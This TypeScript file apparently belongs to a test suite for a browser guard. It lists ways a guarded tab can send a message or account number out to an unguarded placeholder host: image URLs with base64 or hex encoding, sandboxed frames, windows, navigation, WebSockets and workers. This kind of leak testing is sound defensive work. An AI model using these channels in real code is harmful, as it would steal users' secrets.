/** Words in addresses of a host that nobody guards: only a look at all that a guarded tab loads hears of them. */
import type { Kit, Trick } from "../trick";
import { openUnpacked } from "./holes";

const BY_ITSELF = openUnpacked("Addresses that a browser loads by itself");
const BY_WORKERS = openUnpacked("Addresses that workers and escaped pages load");

export const LOADS: readonly Trick[] = [
  {
    name: "image-elsewhere",
    about: "Loads a picture of a host that nobody guards, the message in its address.",
    holes: BY_ITSELF,
    send: (kit) => void (new Image().src = `${there(kit)}?q=${encodeURIComponent(kit.text)}`),
  },
  {
    name: "image-elsewhere-base64",
    about: "The same with the message in base64, as a part of a file's name.",
    holes: BY_ITSELF,
    send: (kit) =>
      void (new Image().src = `${there(kit)}.${btoa(kit.text).replace(/=+$/u, "")}.png`),
  },
  {
    name: "image-elsewhere-hex",
    about: "The same with the message in hex, under the name of a setting.",
    holes: BY_ITSELF,
    send: (kit) => void (new Image().src = `${there(kit)}?v=${hex(kit.text)}`),
  },
  {
    name: "image-elsewhere-value",
    about: "The same with the account number alone, as an identifier.",
    holes: BY_ITSELF,
    send: (kit) => void (new Image().src = `${there(kit)}?id=${kit.secret}`),
  },
  {
    name: "image-elsewhere-nested",
    about: "The same in an address inside the address, coded twice.",
    holes: BY_ITSELF,
    send(kit) {
      const inner = `https://a.example/?x=${encodeURIComponent(kit.text)}`;
      new Image().src = `${there(kit)}?u=${encodeURIComponent(inner)}`;
    },
  },
  {
    name: "image-of-nobody",
    about: "Loads a picture of a frame without an origin, the message in its address.",
    holes: BY_ITSELF,
    send: (kit) =>
      kit.frame((element) => {
        element.setAttribute("sandbox", "allow-scripts");
        element.srcdoc = `<img src="${there(kit)}?q=${encodeURIComponent(kit.text)}">`;
      }),
  },
  {
    name: "frame-elsewhere",
    about: "Loads a frame of a host that nobody guards, the message in its address.",
    holes: BY_ITSELF,
    send: (kit) =>
      kit.frame((element) => {
        element.src = `${kit.elsewhere}blank.html?q=${encodeURIComponent(kit.text)}`;
      }),
  },
  {
    name: "window-elsewhere",
    about: "Opens a window of a host that nobody guards, the message in its address.",
    holes: BY_ITSELF,
    send: (kit) =>
      void window.open(
        `${kit.elsewhere}blank.html?q=${encodeURIComponent(kit.text)}`,
        "_blank",
        "noopener",
      ),
  },
  {
    name: "go-elsewhere",
    about: "Goes to a host that nobody guards, the message in the address.",
    holes: BY_ITSELF,
    async send(kit) {
      await kit.wait(300);
      location.href = `${kit.elsewhere}blank.html?q=${encodeURIComponent(kit.text)}`;
      await kit.wait(1_000);
    },
  },
  {
    name: "socket-elsewhere",
    about: "Opens a socket to a host that nobody guards, the message in its address.",
    holes: openUnpacked("the addresses of WebSockets"),
    send: (kit) =>
      void new WebSocket(`${there(kit).replace("https", "wss")}?q=${encodeURIComponent(kit.text)}`),
  },
  {
    name: "worker-elsewhere",
    about: "Has a worker ask a host that nobody guards, the message in the address.",
    holes: BY_WORKERS,
    send: (kit) => new Worker(kit.file("sender.js")).postMessage(asked(kit)),
  },
  {
    name: "shared-worker-elsewhere",
    about: "Has a shared worker ask so.",
    holes: BY_WORKERS,
    send: (kit) =>
      new SharedWorker(`${kit.file("sender.js")}?${kit.run}get`).port.postMessage(asked(kit)),
  },
  {
    name: "service-worker-elsewhere",
    about: "Has a service worker ask so.",
    holes: BY_WORKERS,
    settleMs: 1_000,
    async send(kit) {
      const { installing, waiting, active } = await navigator.serviceWorker.register(
        kit.file("sender.js"),
      );
      await kit.wait(500);
      (active ?? waiting ?? installing)?.postMessage(asked(kit));
    },
  },
];

function there({ elsewhere }: Kit): string {
  return `${elsewhere}pixel`;
}

function asked(kit: Kit) {
  return { url: `${there(kit)}?q=${encodeURIComponent(kit.text)}`, method: "GET" };
}

function hex(text: string): string {
  return [...text].map((sign) => sign.charCodeAt(0).toString(16).padStart(2, "0")).join("");
}
